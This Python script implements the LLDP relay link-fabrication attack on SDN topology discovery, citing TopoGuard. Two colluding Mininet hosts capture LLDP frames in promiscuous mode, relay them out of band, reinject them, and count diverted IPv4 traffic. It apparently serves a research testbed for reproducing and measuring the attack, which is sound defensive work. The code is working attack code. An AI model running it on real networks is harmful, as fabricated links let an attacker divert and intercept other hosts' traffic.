#!/usr/bin/python3
"""An LLDP relay between two colluding Mininet hosts: the link fabrication attack (TopoGuard, NDSS 2015 §3).

  lldp_relay.py IFACE --listen SOCK --peer SOCK --stats FILE [--watch IPV4 ...]

Run in a host's network namespace (fabric.py ``spawn``), once in each of the two colluding hosts. It
opens an AF_PACKET raw socket on IFACE, captures every LLDP frame (EtherType 0x88cc) the switch sends to
the host and forwards it out of band — a unix datagram socket: Mininet hosts share the filesystem — to
the accomplice, which injects it unchanged on its own IFACE. Both directions: each relay listens on
``--listen`` and forwards to ``--peer``. Frames the host sends itself (PACKET_OUTGOING, our own
injections included) are never relayed.

It also counts the IPv4 frames it receives whose destination is one of the ``--watch`` addresses (another
host's traffic diverted into this one). The counters go to ``--stats`` as one JSON object, rewritten
(atomically, by rename) at most every 50 ms while they change, and at exit (SIGTERM/SIGINT):

  {"ready": true, "captured": n, "forwarded": n, "injected": n, "injectFailed": n, "peerMissing": n,
   "watched": {"10.0.0.4": n}, "firstCaptureAt": t|null, "lastCaptureAt": t|null}

(times: s since the epoch). The relay survives its interface going down and up. One line per relayed frame (the first 20 of each direction) goes to stdout.
"""
import argparse
import json
import os
import select
import signal
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
ETH_P_LLDP = 0x88cc
ETH_P_IP = 0x0800
PACKET_OUTGOING = 4
SOL_PACKET = 263
PACKET_ADD_MEMBERSHIP = 1
PACKET_MR_PROMISC = 1
LOG_FIRST = 20


class Stop(Exception):
    pass


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument('iface')
    ap.add_argument('--listen', required=True)
    ap.add_argument('--peer', required=True)
    ap.add_argument('--stats', required=True)
    ap.add_argument('--watch', action='append', default=[])
    a = ap.parse_args()

    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    raw.bind((a.iface, 0))
    ifindex = socket.if_nametoindex(a.iface)
    # promiscuous: LLDP's destination (01:80:c2:00:00:0e) and other hosts' unicast frames are seen too
    raw.setsockopt(SOL_PACKET, PACKET_ADD_MEMBERSHIP, struct.pack('iHH8s', ifindex, PACKET_MR_PROMISC, 0, b''))
    if os.path.exists(a.listen):
        os.unlink(a.listen)
    oob = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    oob.bind(a.listen)

    watch = {ip: socket.inet_aton(ip) for ip in a.watch}
    st = {'ready': True, 'iface': a.iface, 'captured': 0, 'forwarded': 0, 'injected': 0, 'injectFailed': 0, 'peerMissing': 0,
          'watched': {ip: 0 for ip in a.watch}, 'firstCaptureAt': None, 'lastCaptureAt': None}
    dirty = [True, 0.0]

    def flush(force=False):
        now = time.time()
        if not dirty[0] or (not force and now - dirty[1] < 0.05):
            return
        tmp = a.stats + '.tmp'
        with open(tmp, 'w') as f:
            json.dump(st, f)
        os.rename(tmp, a.stats)
        dirty[0] = False
        dirty[1] = now

    def on_signal(_sig, _frame):
        raise Stop()

    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGINT, on_signal)
    flush(True)
    print('relay on %s: %s -> %s' % (a.iface, a.listen, a.peer), flush=True)
    try:
        while True:
            ready, _, _ = select.select([raw, oob], [], [], 0.05)
            for s in ready:
                if s is raw:
                    try:
                        data, addr = raw.recvfrom(65535)
                    except OSError:  # ENETDOWN once when the interface goes down: keep going
                        continue
                    if addr[2] == PACKET_OUTGOING or len(data) < 14:
                        continue
                    ethertype = struct.unpack('!H', data[12:14])[0]
                    if ethertype == ETH_P_LLDP:
                        st['captured'] += 1
                        now = time.time()
                        st['firstCaptureAt'] = st['firstCaptureAt'] or now
                        st['lastCaptureAt'] = now
                        try:
                            oob.sendto(data, a.peer)
                            st['forwarded'] += 1
                            if st['forwarded'] <= LOG_FIRST:
                                print('%.3f captured LLDP (%d bytes), forwarded' % (now, len(data)), flush=True)
                        except OSError:
                            st['peerMissing'] += 1
                        dirty[0] = True
                    elif ethertype == ETH_P_IP and len(data) >= 34:
                        dst = data[30:34]
                        for ip, b in watch.items():
                            if dst == b:
                                st['watched'][ip] += 1
                                dirty[0] = True
                else:
                    data = oob.recv(65535)
                    try:
                        raw.send(data)
                    except OSError:  # interface down
                        st['injectFailed'] += 1
                        dirty[0] = True
                        continue
                    st['injected'] += 1
                    if st['injected'] <= LOG_FIRST:
                        print('%.3f injected LLDP (%d bytes)' % (time.time(), len(data)), flush=True)
                    dirty[0] = True
            flush()
    except Stop:
        pass
    finally:
        dirty[0] = True
        flush(True)
        try:
            os.unlink(a.listen)
        except OSError:
            pass
        print('relay on %s stopped: %s' % (a.iface, json.dumps(st)), flush=True)
    return 0


if __name__ == '__main__':
    sys.exit(main())
